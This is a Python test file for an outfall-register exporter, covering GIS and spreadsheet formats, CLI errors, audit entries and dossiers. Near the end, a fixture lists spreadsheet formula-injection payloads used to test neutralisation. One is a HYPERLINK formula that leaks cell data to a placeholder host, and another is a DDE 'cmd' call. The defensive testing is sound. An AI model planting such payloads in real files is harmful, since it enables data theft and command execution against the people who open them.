"""Registers (名录): the rows as of a date against a hand-computed register and against the per-outfall replay,
every format read back with GDAL's own ``ogrinfo`` (count, CRS, field types, nothing on stderr) or openpyxl,
byte-identical repeats, scope, the command line (its errors too) and the dossier's pieces.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from sqlalchemy import Connection, select
from sqlalchemy.orm import Session, sessionmaker

from outfalls import registers
from outfalls.cases import dossier
from outfalls.cases.sampling import ResultInput, VisitInput, record_visit
from outfalls.catalogue.lifecycle import HistoryItem, state_as_of
from outfalls.cli import main
from outfalls.db.cluster import Cluster
from outfalls.db.engine import make_engine
from outfalls.demo import seed_demo
from outfalls.errors import InvalidInput, NotFound
from outfalls.jobs import create_job, run_job
from outfalls.models import AuditEntry, Outfall
from outfalls.scope import Scope
from outfalls.types import AuditAction, DischargeState, EventKind, SurveyLevel

NATIONAL = Scope.national()
LINTONG = (109.20, 34.44)  # 临潼区 (610115), 700 m from the Wei river
HANZHONG = (107.03, 33.07)  # 汉台区 (610702), on the Han river
BASE_ENV = {k: v for k, v in os.environ.items() if not k.startswith("OUTFALLS_")}


@pytest.fixture
def catalogue(make_outfall: Callable[..., Outfall], session: Session) -> dict[str, Outfall]:
    """A handful of outfalls whose register on 2023-12-31 is worked out by hand in the test below."""
    a = make_outfall(lonlat=LINTONG, name="甲排口", found_on=date(2022, 5, 1), national_code="NC-A", history=(
        HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "甲公司"}),
        HistoryItem(EventKind.REMEDIATION_PLANNED, date(2023, 6, 1), {"category": "ban"}),
        HistoryItem(EventKind.REMEDIATED, date(2024, 2, 1)),
        HistoryItem(EventKind.CLOSED, date(2024, 3, 1)),
    ))  # fmt: skip
    b = make_outfall(lonlat=LINTONG, name="乙排口（2024 年才发现）", found_on=date(2024, 1, 15))
    c = make_outfall(lonlat=LINTONG, name="丙疑似点", found_by=SurveyLevel.DRONE, found_on=date(2023, 1, 1),
                     history=(HistoryItem(EventKind.REJECTED, date(2023, 5, 1)),))  # fmt: skip
    d = make_outfall(lonlat=LINTONG, name="丁疑似点", found_by=SurveyLevel.DRONE, found_on=date(2023, 2, 1),
                     history=(HistoryItem(EventKind.SURVEYED, date(2024, 1, 10)),))  # fmt: skip
    e = make_outfall(lonlat=HANZHONG, name="戊排口", found_on=date(2023, 4, 1), type_code="1.1.1")
    record_visit(session, e.id, VisitInput(
        visited_at=datetime(2023, 7, 1, 2, 0, tzinfo=UTC), discharge=DischargeState.DISCHARGING,
        results=(ResultInput("ph", 7.2, ""), ResultInput("cod", 45.0, "mg/L")),
    ), actor="tester", scope=NATIONAL, expected_version=e.version)  # fmt: skip
    return {"a": a, "b": b, "c": c, "d": d, "e": e}


def test_register_as_of_a_date_equals_the_hand_computed_one(catalogue: dict[str, Outfall], session: Session) -> None:
    ids = {o.id for o in catalogue.values()}
    rows = [r for r in registers.register_rows(session, scope=NATIONAL, as_of=date(2023, 12, 31))
            if r["outfall_id"] in ids]  # fmt: skip
    by_name = {r["name"]: r for r in rows}
    # 乙 was found in 2024 and 丙 was rejected as not an outfall: neither is on the register
    assert set(by_name) == {"甲排口", "丁疑似点", "戊排口"}
    a = by_name["甲排口"]
    assert (a["status"], a["status_label"], a["status_since"]) == ("remediating", "整治中", date(2023, 6, 1))
    assert (a["responsible_party"], a["remediation_category"], a["remediation"]) == ("甲公司", "ban", "依法取缔")
    assert a["closed_on"] is None and a["national_code"] == "NC-A" and a["national_code_source"] == "暂不掌握"
    assert (a["county_code"], a["county"], a["city_code"], a["province_code"]) == ("610115", "临潼区", "610100",
                                                                                   "610000")  # fmt: skip
    assert (a["basin_code"], a["sub_basin_code"]) == ("HH", "HH-08")
    assert (a["type1_code"], a["type2_code"], a["type3_code"], a["type2"]) == ("4", "4.8", None, "城镇雨洪排口")
    assert (a["found_level"], a["found_on"], a["crs"]) == (2, date(2022, 5, 1), "EPSG:4490")
    assert a["record_url"] == f"/outfalls/{a['outfall_id']}"
    d = by_name["丁疑似点"]
    assert (d["status"], d["status_since"], d["found_level"]) == ("candidate", date(2023, 2, 1), 1)
    e = by_name["戊排口"]
    assert (e["discharging"], e["monitored_on"], e["monitoring_state"]) == ("是", date(2023, 7, 1), "排放")
    assert e["monitoring_summary"] == "pH 7.2；化学需氧量 45 mg/L" and e["exceedances"] == 0
    assert (e["type1_code"], e["type2_code"], e["type3_code"], e["county_code"]) == ("1", "1.1", "1.1.1", "610702")
    # sorted by basin (Yangtze CJ before Yellow River HH), then area, then id
    assert [r["name"] for r in rows] == ["戊排口", "甲排口", "丁疑似点"]

    later = {r["name"]: r for r in registers.register_rows(session, scope=NATIONAL, as_of=date(2024, 12, 31))
             if r["outfall_id"] in ids}  # fmt: skip
    assert set(later) == {"甲排口", "乙排口（2024 年才发现）", "丁疑似点", "戊排口"}
    assert (later["甲排口"]["status"], later["甲排口"]["closed_on"]) == ("closed", date(2024, 3, 1))
    assert (later["丁疑似点"]["status"], later["丁疑似点"]["status_since"]) == ("surveyed", date(2024, 1, 10))


@pytest.mark.parametrize("as_of", [date(2022, 12, 31), date(2023, 6, 30), date(2024, 2, 15), None])
def test_register_state_matches_the_per_outfall_replay(catalogue: dict[str, Outfall], session: Session,
                                                       as_of: date | None) -> None:  # fmt: skip
    rows = {r["outfall_id"]: r for r in registers.register_rows(session, scope=NATIONAL, as_of=as_of)}
    for o in catalogue.values():
        state = state_as_of(session, o.id, as_of, scope=NATIONAL)
        if state is None or state.status.value in ("rejected", "merged"):
            assert o.id not in rows
            continue
        row = rows[o.id]
        assert (row["status"], row["status_since"]) == (state.status.value, state.status_since)
        assert row["responsible_party"] == state.responsible_party
        assert row["remediation_category"] == (state.remediation_category.value if state.remediation_category else None)


def test_scope_and_filters(catalogue: dict[str, Outfall], session: Session) -> None:
    county = Scope(area_codes=("610115",))
    rows = registers.register_rows(session, scope=county, as_of=date(2024, 12, 31))
    assert rows and {r["county_code"] for r in rows} == {"610115"}
    # a filter cannot widen a scope: Hanzhong is outside Lintong
    assert registers.register_rows(session, scope=county, area="610702", as_of=date(2024, 12, 31)) == []
    han = registers.register_rows(session, scope=NATIONAL, basin="CJ", as_of=date(2024, 12, 31))
    assert han and {r["basin_code"] for r in han} == {"CJ"}
    with pytest.raises(InvalidInput, match="unknown basin"):
        registers.register_query(session, scope=NATIONAL, basin="XX")
    with pytest.raises(InvalidInput, match="six digits"):
        registers.register_query(session, scope=NATIONAL, area="61")
    with pytest.raises(InvalidInput, match="in the future"):
        registers.register_query(session, scope=NATIONAL, as_of=date(2999, 1, 1))
    with pytest.raises(InvalidInput, match="4490"):
        registers.check_crs("3857")
    with pytest.raises(InvalidInput, match="unknown format"):
        registers.check_format("docx")


# -- every format, read back with GDAL's own tools -----------------------------------------------------------
@pytest.fixture
def demo(session: Session) -> int:
    """A small demo catalogue (monitoring, tracing, remediation histories) in the test's transaction."""
    report = seed_demo(session, yellow=60, handan=40, seed=5)
    return report.created


def ogrinfo(path: Path, *extra: str) -> str:
    out = subprocess.run(["ogrinfo", "-ro", "-al", "-so", *extra, str(path)], capture_output=True, text=True,
                         timeout=120, check=False)  # fmt: skip
    assert out.returncode == 0, out.stderr
    assert out.stderr == "", f"ogrinfo warned: {out.stderr}"
    return out.stdout


def field_types(info: str) -> dict[str, str]:
    return dict(re.findall(r"^(\w+): (\w+) \(", info, flags=re.M))


EXPECTED_TYPES = {  # what GDAL reports for the typed columns, per format
    "gpkg": {"outfall_id": "Integer", "lon": "Real", "found_on": "Date", "name": "String", "exceedances": "Integer"},
    "geojson": {"outfall_id": "Integer", "lon": "Real", "found_on": "Date", "name": "String"},
    "fgb": {"outfall_id": "Integer", "lon": "Real", "found_on": "DateTime", "name": "String"},  # FlatGeobuf: no Date
    "shp": {"OUTFALL_ID": "Integer", "LON": "Real", "FOUND_ON": "Date", "NAME": "String", "EXCEED": "Integer"},
    "kml": {"Name": "String", "outfall_id": "Integer", "lon": "Real"},  # the name is the placemark's <name>
}


@pytest.mark.parametrize("fmt", ["gpkg", "shp", "geojson", "kml", "fgb"])
@pytest.mark.parametrize("crs", [4490, 4326])
def test_gis_formats_read_by_ogrinfo(demo: int, session: Session, tmp_path: Path, fmt: str, crs: int) -> None:
    name = "register.shp.zip" if fmt == "shp" else f"register.{fmt}"
    result = registers.export_register(session, tmp_path / name, fmt=fmt, scope=NATIONAL, as_of=date(2024, 12, 31),
                                       crs=crs)  # fmt: skip
    expected = len(registers.register_rows(session, scope=NATIONAL, as_of=date(2024, 12, 31)))
    assert result.rows == expected > 50
    info = ogrinfo(tmp_path / name)
    assert f"Feature Count: {expected}" in info
    # KML is WGS 84 by definition; the others carry the CRS chosen
    assert f'ID["EPSG",{4326 if fmt == "kml" else crs}]]' in info
    types = field_types(info)
    for field, kind in EXPECTED_TYPES[fmt].items():
        assert types.get(field) == kind, (field, types.get(field))
    if fmt == "shp":
        with zipfile.ZipFile(tmp_path / name) as z:
            names = set(z.namelist())
            assert {"outfall_register.shp", "outfall_register.shx", "outfall_register.dbf", "outfall_register.prj",
                    "outfall_register.cpg", "FIELDS.csv"} <= names  # fmt: skip
            assert z.read("outfall_register.cpg").strip() == b"UTF-8"
            mapping = list(csv.DictReader(io.StringIO(z.read("FIELDS.csv").decode("utf-8-sig"))))
        assert {(m["register_field"], m["shapefile_field"]) for m in mapping} == set(registers.SHP_NAMES.items())
        assert all(len(m["shapefile_field"]) <= 10 for m in mapping)
        assert set(types) == set(registers.SHP_NAMES.values())
    elif fmt != "kml":
        assert set(types) == set(registers.COLUMN_NAMES)


@pytest.mark.parametrize("fmt", ["gpkg", "shp"])
def test_large_registers_are_written_in_blocks(demo: int, session: Session, tmp_path: Path, fmt: str,
                                               monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    monkeypatch.setattr(registers.ogr, "APPEND_ROWS", 30)
    name = "register.shp.zip" if fmt == "shp" else f"register.{fmt}"
    result = registers.export_register(session, tmp_path / name, fmt=fmt, scope=NATIONAL, as_of=date(2024, 12, 31))
    assert result.rows > 60  # three blocks or more
    assert f"Feature Count: {result.rows}" in ogrinfo(tmp_path / name)


def test_csv_has_a_bom_and_reads_back(demo: int, session: Session, tmp_path: Path) -> None:
    path = tmp_path / "register.csv"
    result = registers.export_register(session, path, fmt="csv", scope=NATIONAL, as_of=date(2024, 12, 31))
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == result.rows and list(rows[0]) == list(registers.COLUMN_NAMES)
    expected = registers.register_rows(session, scope=NATIONAL, as_of=date(2024, 12, 31))
    assert [int(r["outfall_id"]) for r in rows] == [r["outfall_id"] for r in expected]
    assert rows[0]["found_on"] == expected[0]["found_on"].isoformat()
    info = ogrinfo(path, "-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat", "-oo", "AUTODETECT_TYPE=YES")
    assert f"Feature Count: {result.rows}" in info


def test_xlsx_reread_with_openpyxl(demo: int, session: Session, tmp_path: Path) -> None:
    path = tmp_path / "register.xlsx"
    result = registers.export_register(session, path, fmt="xlsx", scope=NATIONAL, as_of=date(2024, 12, 31))
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["汇总", "长江流域", "黄河流域", "字段说明"]
    data_rows = 0
    for title in ("长江流域", "黄河流域"):
        ws = wb[title]
        assert ws.freeze_panes == "C2"
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(registers.COLUMNS))}{ws.max_row}"
        header = [c.value for c in ws[1]]
        assert header == [c.zh for c in registers.COLUMNS] and all(c.font.b for c in ws[1])
        assert ws.column_dimensions["F"].width == registers.COLUMNS[5].width
        row = {c.name: cell for c, cell in zip(registers.COLUMNS, ws[2], strict=True)}
        assert isinstance(row["outfall_id"].value, int) and isinstance(row["lon"].value, float)
        assert isinstance(row["found_on"].value, datetime) and row["found_on"].is_date
        assert row["found_on"].number_format == "yyyy-mm-dd"
        assert {r[COL_BASIN].value for r in ws.iter_rows(min_row=2)} == {title}
        data_rows += ws.max_row - 1
    assert data_rows == result.rows
    summary = [[c.value for c in r] for r in wb["汇总"].iter_rows()]
    assert summary[1][:2] == ["截至日期 / As of", datetime(2024, 12, 31)]
    assert summary[-1][0] == "合计" and summary[-1][1] == result.rows
    explained = {r[0].value for r in wb["字段说明"].iter_rows(min_row=2)}
    assert set(registers.COLUMN_NAMES) <= explained
    info = ogrinfo(path)  # GDAL's own XLSX reader: the data sheets with typed columns, no warning
    assert f"Feature Count: {wb['黄河流域'].max_row - 1}" in info and "发现日期: Date" in info and "经度: Real" in info
    by_type = registers.export_register(session, tmp_path / "t.xlsx", fmt="xlsx", scope=NATIONAL,
                                        as_of=date(2024, 12, 31), by="type")  # fmt: skip
    assert by_type.rows == result.rows
    assert "工业排污口" in openpyxl.load_workbook(tmp_path / "t.xlsx").sheetnames


COL_BASIN = registers.COLUMN_NAMES.index("basin")


@pytest.mark.parametrize("fmt", list(registers.FORMATS))
def test_exports_are_byte_identical_when_repeated(demo: int, session: Session, tmp_path: Path, fmt: str) -> None:
    day = date(2023, 12, 31)
    first = registers.export_register(session, tmp_path / f"1.{fmt}", fmt=fmt, scope=NATIONAL, as_of=day)
    second = registers.export_register(session, tmp_path / f"2.{fmt}", fmt=fmt, scope=NATIONAL, as_of=day)
    assert first.sha256 == second.sha256, _first_difference(tmp_path / f"1.{fmt}", tmp_path / f"2.{fmt}")
    assert (tmp_path / f"1.{fmt}").read_bytes() == (tmp_path / f"2.{fmt}").read_bytes()


def test_xlsx_dates_are_the_as_of_day_whatever_prefix_the_process_gave_dublin_core(demo: int, session: Session,
                                                                                   tmp_path: Path) -> None:  # fmt: skip
    """XML prefixes are global to a process: once OWSLib is imported, openpyxl writes <dct:modified> instead of
    <dcterms:modified>, and the time of writing must still be replaced by the as-of day.
    """
    import owslib.etree  # noqa: F401  (registers "dct" for the Dublin Core terms, as in a server using OWSLib)

    path = tmp_path / "r.xlsx"
    registers.export_register(session, path, fmt="xlsx", scope=NATIONAL, as_of=date(2023, 12, 31))
    with zipfile.ZipFile(path) as z:
        core = z.read("docProps/core.xml").decode("utf-8")
    stamps = re.findall(r"<[\w.-]+:(created|modified)\b[^>]*>([^<]*)</", core)
    assert dict(stamps) == {"created": "2023-12-31T00:00:00Z", "modified": "2023-12-31T00:00:00Z"}, core


def _first_difference(a: Path, b: Path) -> str:
    """Where two exports differ: the first differing zip member (XLSX, zipped Shapefile) or byte, with context."""

    def at(x: bytes, y: bytes) -> str:
        i = next((k for k in range(min(len(x), len(y))) if x[k] != y[k]), min(len(x), len(y)))
        return f"at byte {i} of {len(x)}/{len(y)}: {x[max(0, i - 120):i + 120]!r} vs {y[max(0, i - 120):i + 120]!r}"

    if zipfile.is_zipfile(a) and zipfile.is_zipfile(b):
        with zipfile.ZipFile(a) as za, zipfile.ZipFile(b) as zb:
            if za.namelist() != zb.namelist():
                return f"members differ: {za.namelist()} vs {zb.namelist()}"
            for name in za.namelist():
                if za.read(name) != zb.read(name):
                    return f"member {name} differs " + at(za.read(name), zb.read(name))
            infos = [(i.filename, i.date_time, i.external_attr, i.flag_bits) for i in za.infolist()]
            return f"members are equal, the archives are not: {infos}"
    return at(a.read_bytes(), b.read_bytes())


def test_unwritable_output_is_refused_before_any_work(session: Session, tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="does not exist"):
        registers.export_register(session, tmp_path / "nope" / "r.csv", fmt="csv", scope=NATIONAL)
    with pytest.raises(InvalidInput, match="is a folder"):
        registers.export_register(session, tmp_path, fmt="csv", scope=NATIONAL)


# -- export jobs (the exporters' page) ------------------------------------------------------------------------
def test_export_job_is_checked_run_stored_and_audited(catalogue: dict[str, Outfall], session: Session,
                                                      connection: Connection, tmp_path: Path) -> None:  # fmt: skip
    assert registers.default_as_of(date(2024, 3, 5)) == date(2023, 12, 31)
    assert registers.file_name("shp", "HH", "610115", date(2023, 12, 31)) == "register-HH-610115-2023-12-31.shp.zip"
    with pytest.raises(InvalidInput, match="unknown format"):
        registers.start_export(session, actor="a", scope=NATIONAL, runner="r", fmt="docx")
    with pytest.raises(InvalidInput, match="unknown basin"):
        registers.start_export(session, actor="a", scope=NATIONAL, runner="r", basin="XX")
    assert registers.recent_exports(session, "a") == []  # a refused export starts no job
    job = registers.start_export(session, actor="a", scope=NATIONAL, runner="r", fmt="csv", crs="EPSG:4326",
                                 as_of=date(2023, 12, 31), area="610115")  # fmt: skip
    # the progress bar's length: the four Lintong outfalls, whatever the date
    assert (job.kind, job.input_name, job.total) == (registers.JOB_KIND, "register-610115-2023-12-31.csv", 4)
    assert job.options == {"format": "csv", "crs": 4326, "by": "basin", "as_of": "2023-12-31", "basin": None,
                           "area": "610115", "runner": "r"}  # fmt: skip
    with pytest.raises(NotFound, match="not ready"):
        registers.export_file(session, tmp_path, job.id, actor="a")
    session.commit()
    work = registers.export_work(tmp_path, actor="a", ip="10.0.0.1", scope=NATIONAL)
    sessions = sessionmaker(bind=connection, join_transaction_mode="create_savepoint", expire_on_commit=False)
    run_job(sessions, None, job.id, work)
    session.expire_all()
    stored = registers.export_file(session, tmp_path, job.id, actor="a")
    assert (stored.name, stored.media_type) == ("register-610115-2023-12-31.csv", "text/csv")
    rows = list(csv.DictReader(io.StringIO(stored.path.read_bytes().decode("utf-8-sig"))))
    assert {r["name"] for r in rows} == {"甲排口", "丁疑似点"}
    entry = session.scalars(select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORT)).one()
    assert (entry.actor, entry.ip, entry.details["job"], entry.details["rows"]) == ("a", "10.0.0.1", job.id, 2)
    assert entry.details["sha256"] == stored.path.name
    # only the requester's own exports, newest first
    later = registers.start_export(session, actor="a", scope=NATIONAL, runner="r")
    registers.start_export(session, actor="b", scope=NATIONAL, runner="r")
    other_kind = create_job(session, "survey_import", actor="a")
    assert [j.id for j in registers.recent_exports(session, "a")] == [later.id, job.id]
    for job_id, actor in ((job.id, "b"), (other_kind.id, "a")):
        with pytest.raises(NotFound):
            registers.export_job(session, job_id, actor=actor)


# -- the command line -----------------------------------------------------------------------------------------
def cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "outfalls", *args], capture_output=True, text=True,
                          env={**BASE_ENV, **(env or {})}, timeout=300, check=False)  # fmt: skip


@pytest.fixture
def open_tmp() -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="ofr", dir="/tmp"))
    path.chmod(0o755)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@pytest.mark.parametrize(("args", "message"), [
    (["--format", "docx"], "unknown format 'docx'"),
    (["--as-of", "2023-13-01"], "--as-of must be a date"),
    (["--crs", "3857"], "--crs must be 4490"),
])  # fmt: skip
def test_cli_errors_are_one_line_and_exit_1(args: list[str], message: str, open_tmp: Path) -> None:
    out = cli("register", "export", *args, "-o", str(open_tmp / "r.xlsx"))
    assert out.returncode == 1, out.stderr
    assert out.stderr.strip().count("\n") == 0 and message in out.stderr and "Traceback" not in out.stderr


def test_cli_refuses_an_unwritable_path(open_tmp: Path) -> None:
    locked = open_tmp / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    for target in (open_tmp / "missing" / "r.csv", locked / "r.csv"):
        out = cli("register", "export", "--format", "csv", "-o", str(target))
        if os.geteuid() == 0 and target.parent == locked:
            continue  # root may write anywhere
        assert out.returncode == 1 and out.stderr.strip().count("\n") == 0, out.stderr
        assert "cannot write" in out.stderr


@pytest.fixture(scope="module")
def committed_db(pg_cluster: Cluster, clone_db: Callable[[str], str]) -> Iterator[str]:
    """A database with a committed small demo catalogue, for the command line (another process)."""
    url = clone_db("registers_cli")
    engine = make_engine(url)
    with Session(engine) as s:
        seed_demo(s, yellow=60, handan=40, seed=5)
        s.commit()
    engine.dispose()
    yield url
    pg_cluster.drop_database("registers_cli")


def test_cli_export_json_summary_and_repeatable(committed_db: str, open_tmp: Path) -> None:
    env = {"OUTFALLS_DATABASE_URL": committed_db, "OUTFALLS_DATA_DIR": str(open_tmp / "data")}
    runs = []
    for n in (1, 2):
        target = open_tmp / f"r{n}.geojson"
        out = cli("register", "export", "--basin", "HH", "--as-of", "2023-12-31", "--format", "geojson", "--crs",
                  "4326", "-o", str(target), "--json", env=env)  # fmt: skip
        assert out.returncode == 0, out.stderr
        runs.append(json.loads(out.stdout))
    summary = runs[0]
    assert set(summary) >= {"file", "format", "rows", "crs", "as_of", "scope", "sha256"}
    assert (summary["format"], summary["crs"], summary["as_of"]) == ("geojson", "EPSG:4326", "2023-12-31")
    assert summary["scope"] == "national, basin HH" and summary["rows"] > 0
    assert runs[0]["sha256"] == runs[1]["sha256"]
    assert (open_tmp / "r1.geojson").read_bytes() == (open_tmp / "r2.geojson").read_bytes()
    features = json.loads((open_tmp / "r1.geojson").read_text(encoding="utf-8"))["features"]
    assert len(features) == summary["rows"] and {f["properties"]["basin_code"] for f in features} == {"HH"}


def export_audit(url: str, after: int = 0) -> list[AuditEntry]:
    """The export entries of the audit log of the database at ``url`` (those after id ``after``)."""
    engine = make_engine(url)
    try:
        with Session(engine, expire_on_commit=False) as s:
            return list(s.scalars(select(AuditEntry).where(AuditEntry.action == AuditAction.EXPORT,
                                                           AuditEntry.id > after).order_by(AuditEntry.id)))  # fmt: skip
    finally:
        engine.dispose()


def test_cli_export_is_in_the_audit_log(committed_db: str, open_tmp: Path) -> None:
    """An export from the command line leaves the same audit entry as one from the web page."""
    env = {"OUTFALLS_DATABASE_URL": committed_db, "OUTFALLS_DATA_DIR": str(open_tmp / "data")}
    before = max((e.id for e in export_audit(committed_db)), default=0)
    runner = CliRunner()
    out = runner.invoke(main, ["register", "export", "--basin", "HH", "--as-of", "2023-12-31", "--format", "csv",
                               "-o", str(open_tmp / "r.csv"), "--actor", "zhang", "--json"], env=env)  # fmt: skip
    assert out.exit_code == 0, out.output
    summary = json.loads(out.stdout)
    default = runner.invoke(main, ["register", "export", "--format", "kml", "-o", str(open_tmp / "r.kml")], env=env)
    assert default.exit_code == 0, default.output
    entries = export_audit(committed_db, before)
    assert len(entries) == 2
    mine = entries[0]
    assert (mine.actor, mine.success, mine.ip) == ("zhang", True, None)
    assert mine.details == {"what": "register", "format": "csv", "rows": summary["rows"], "as_of": "2023-12-31",
                            "scope": "national, basin HH", "crs": 4490, "sha256": summary["sha256"]}  # fmt: skip
    assert entries[1].actor == "cli" and entries[1].details["format"] == "kml"
    # a refused export leaves no entry
    bad = runner.invoke(main, ["register", "export", "--basin", "XX", "-o", str(open_tmp / "x.csv")], env=env)
    assert bad.exit_code == 1 and "unknown basin" in bad.output
    assert len(export_audit(committed_db, before)) == 2

# -- the dossier's pieces ----------------------------------------------------------------------------------------
def test_dossier_gathers_the_case(make_outfall: Callable[..., Outfall], session: Session) -> None:
    a = make_outfall(history=(HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "甲公司"}),
                              HistoryItem(EventKind.REMEDIATION_PLANNED, date(2023, 6, 1), {"category": "ban"})))
    d = dossier.build_dossier(session, a.id, scope=NATIONAL)
    assert [e.kind for e in d.detail.events] == ["created", "traced", "remediation_planned"]
    assert d.people and d.people[0][0] == "tester"
    snap = d.snapshot
    assert any("渭河" in name for name, _path in snap.rivers)  # the default outfall lies on the Wei river in Xi'an
    assert all(re.fullmatch(r"[MLZ0-9 .\-]+", path) for _n, path in snap.rivers)
    assert 0 <= snap.point[0] <= snap.width and 0 <= snap.point[1] <= snap.height
    assert abs(snap.point[0] - snap.width / 2) < 1 and abs(snap.point[1] - snap.height / 2) < 1
    with pytest.raises(Exception, match="does not exist"):
        dossier.build_dossier(session, a.id, scope=Scope(area_codes=("610702",)))


HOSTILE_NAMES = ("=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "=cmd|' /C calc'!A0", "+1+2", "@SUM(1,1)", "-2+3",
                 "=1+1")  # fmt: skip
FORMULA_LIKE = ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", " =1", "1-1", "", "渭河")


@pytest.fixture
def hostile(make_outfall: Callable[..., Outfall]) -> list[Outfall]:
    """Outfalls whose names and responsible party came from a crew's file written to be run by a spreadsheet."""
    return [
        make_outfall(lonlat=LINTONG, name=name, found_on=date(2022, 5, 1), receiving_water="-渭河",
                     history=(HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "=1+1"}),))
        for name in HOSTILE_NAMES
    ]  # fmt: skip


def test_csv_register_neutralises_formulas_and_keeps_numbers(hostile: list[Outfall], session: Session,
                                                             tmp_path: Path) -> None:  # fmt: skip
    path = tmp_path / "register.csv"
    registers.export_register(session, path, fmt="csv", scope=NATIONAL, as_of=date(2024, 12, 31))
    rows = list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
    assert {r["responsible_party"] for r in rows} == {"'=1+1"} and {r["receiving_water"] for r in rows} == {"'-渭河"}
    for r in rows:  # numbers stay numbers
        assert float(r["lon"]) == pytest.approx(LINTONG[0]) and int(r["outfall_id"]) > 0
        assert r["status"] == "traced" and r["found_on"] == "2022-05-01"
    neg = registers.export_register(session, tmp_path / "w.csv", fmt="csv", scope=NATIONAL, crs=4326)
    assert neg.rows == len(HOSTILE_NAMES)


def test_formula_rule_in_python_and_in_sql(session: Session) -> None:
    from sqlalchemy import text

    from outfalls.registers.formulas import neutralise, neutralise_sql

    expected = ["'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "'=1", " =1", "1-1", "", "渭河"]
    assert [neutralise(v) for v in FORMULA_LIKE] == expected
    assert [neutralise(v) for v in (-2, -2.5, None, date(2020, 1, 1))] == [-2, -2.5, None, date(2020, 1, 1)]
    sql = f"SELECT {neutralise_sql('v')} FROM unnest(CAST(:values AS text[])) WITH ORDINALITY AS t(v, n) ORDER BY n"
    assert list(session.scalars(text(sql), {"values": list(FORMULA_LIKE)})) == expected
    assert session.scalar(text(f"SELECT {neutralise_sql('CAST(NULL AS text)')}")) is None


def test_xlsx_register_writes_names_as_text(hostile: list[Outfall], session: Session, tmp_path: Path) -> None:
    for by in ("basin", "type"):
        path = tmp_path / f"register-{by}.xlsx"
        registers.export_register(session, path, fmt="xlsx", scope=NATIONAL, as_of=date(2024, 12, 31), by=by)
        wb = openpyxl.load_workbook(path)
        cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        names = {c.value for c in cells if c.data_type in ("s", "inlineStr")}
        assert set(HOSTILE_NAMES) <= names  # verbatim, as text


def test_cli_keep_list_csv_neutralises_formulas(pg_cluster: Cluster, clone_db: Callable[[str], str],
                                                open_tmp: Path) -> None:  # fmt: skip
    from outfalls.catalogue.lifecycle import NewOutfall, create_outfalls

    url = clone_db("keep_list_formulas")
    engine = make_engine(url)
    try:
        with Session(engine) as s:
            history = (HistoryItem(EventKind.TRACED, date(2023, 3, 1), {"responsible_party": "甲公司"}),
                       HistoryItem(EventKind.REMEDIATION_PLANNED, date(2023, 6, 1), {"category": "none_needed"}))
            create_outfalls(s, [NewOutfall(lonlat=LINTONG, name=name, type_code="4.8", found_by=SurveyLevel.FOOT,
                                           found_on=date(2022, 5, 1), local_code="-7", history=history)
                                for name in HOSTILE_NAMES], actor="t")  # fmt: skip
            s.commit()
        out = CliRunner().invoke(main, ["case", "keep-list", "-o", str(open_tmp / "keep.csv")],
                                 env={"OUTFALLS_DATABASE_URL": url, "OUTFALLS_DATA_DIR": str(open_tmp / "d")})
        assert out.exit_code == 0, out.output
        text = (open_tmp / "keep.csv").read_text(encoding="utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert sorted(r["name"] for r in rows) == sorted("'" + n for n in HOSTILE_NAMES)
        assert {r["local_code"] for r in rows} == {"'-7"} and {float(r["lon"]) for r in rows} == {LINTONG[0]}
    finally:
        engine.dispose()
        pg_cluster.drop_database("keep_list_formulas")
